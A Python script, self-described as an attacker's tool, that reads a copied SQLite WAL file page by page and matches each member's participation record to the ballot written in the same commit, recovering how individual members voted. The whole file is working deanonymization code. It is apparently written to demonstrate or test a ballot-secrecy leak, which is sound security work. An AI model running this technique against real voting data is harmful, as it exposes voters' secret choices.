"""An attacker's tool: replay a copied SQLite WAL commit by commit and pair each new
participation with the ballot that appeared in the same commit.

Reads the WAL file format (https://sqlite.org/fileformat2.html#walformat) and the B-tree
pages in its frames directly; no SQLite involved. A participation record is (poll, member,
cast by, channel, cast by a relative); a ballot record (tracker of 16 bytes, poll, choice), or its index entry
(poll, choice, tracker).
"""

from __future__ import annotations

import struct
from pathlib import Path

CHANNELS = {b"ONLINE", b"PROXY", b"ROOM"}


def _varint(data: bytes, pos: int) -> tuple[int, int]:
    value = 0
    for i in range(9):
        byte = data[pos + i]
        if i == 8:
            return (value << 8) | byte, pos + 9
        value = (value << 7) | (byte & 0x7F)
        if byte < 0x80:
            return value, pos + i + 1
    raise AssertionError("unreachable")


def _record(payload: bytes) -> list[object] | None:
    try:
        header_size, pos = _varint(payload, 0)
        types = []
        while pos < header_size:
            serial, pos = _varint(payload, pos)
            types.append(serial)
        values: list[object] = []
        body = header_size
        sizes = {1: 1, 2: 2, 3: 3, 4: 4, 5: 6, 6: 8}
        for serial in types:
            if serial in sizes:
                n = sizes[serial]
                values.append(int.from_bytes(payload[body : body + n], "big", signed=True))
                body += n
            elif serial == 0:  # NULL (a vote not cast by a relative)
                values.append(None)
            elif serial in (8, 9):
                values.append(serial - 8)
            elif serial >= 12:
                n = (serial - 12) // 2
                values.append(bytes(payload[body : body + n]))
                body += n
            else:
                return None
        return values
    except IndexError:
        return None


def _index_cells(page: bytes, offset: int) -> list[list[object]]:
    kind = page[offset]
    if kind not in (0x02, 0x0A):  # index b-tree pages (WITHOUT ROWID tables are these too)
        return []
    ncells = struct.unpack(">H", page[offset + 3 : offset + 5])[0]
    header = 12 if kind == 0x02 else 8
    records = []
    for i in range(ncells):
        ptr = offset + header + 2 * i
        cell = struct.unpack(">H", page[ptr : ptr + 2])[0]
        pos = cell + 4 if kind == 0x02 else cell
        size, pos = _varint(page, pos)
        record = _record(page[pos : pos + size])
        if record is not None:
            records.append(record)
    return records


def _rows(page: bytes, pgno: int) -> tuple[set[tuple[int, int]], dict[bytes, str]]:
    participations: set[tuple[int, int]] = set()
    ballots: dict[bytes, str] = {}
    for rec in _index_cells(page, 100 if pgno == 1 else 0):
        types = [type(v) for v in rec]
        if types[:2] == [int, int] and len(rec) in (4, 5) and CHANNELS & set(rec[2:]):
            participations.add((int(rec[0]), int(rec[1])))  # type: ignore[arg-type]
        elif types == [bytes, int, bytes] and len(rec[0]) == 16:  # type: ignore[arg-type]
            ballots[rec[0]] = rec[2].decode()  # type: ignore[index, union-attr]
        elif types == [int, bytes, bytes] and len(rec[2]) == 16:  # type: ignore[arg-type]
            ballots[rec[2]] = rec[1].decode()  # type: ignore[index, union-attr]
    return participations, ballots


def commits(wal: Path) -> list[list[tuple[int, bytes]]]:
    """The WAL's valid frames grouped by transaction: [(page number, page image), ...]."""
    data = wal.read_bytes() if wal.exists() else b""
    if len(data) < 32:
        return []
    page_size = struct.unpack(">I", data[8:12])[0]
    salts = data[16:24]
    groups, current, pos = [], [], 32
    while pos + 24 + page_size <= len(data):
        pgno, commit = struct.unpack(">II", data[pos : pos + 8])
        if data[pos + 8 : pos + 16] != salts:
            break  # frames of an earlier generation of the WAL
        current.append((pgno, data[pos + 24 : pos + 24 + page_size]))
        if commit:
            groups.append(current)
            current = []
        pos += 24 + page_size
    return groups


def relink(wal: Path, poll_id: int) -> dict[int, str]:
    """member id → choice, for every commit that added exactly one participation and one
    ballot of the poll (a cast) to the pages it wrote."""
    seen_parts: set[tuple[int, int]] = set()
    seen_ballots: set[bytes] = set()
    links: dict[int, str] = {}
    for frames in commits(wal):
        parts: set[tuple[int, int]] = set()
        ballots: dict[bytes, str] = {}
        for pgno, page in frames:
            p, b = _rows(page, pgno)
            parts |= p
            ballots.update(b)
        new_parts = {m for poll, m in parts - seen_parts if poll == poll_id}
        new_ballots = {t: c for t, c in ballots.items() if t not in seen_ballots}
        if len(new_parts) == 1 and len(new_ballots) == 1:
            links[new_parts.pop()] = next(iter(new_ballots.values()))
        seen_parts |= parts
        seen_ballots |= set(ballots)
    return links
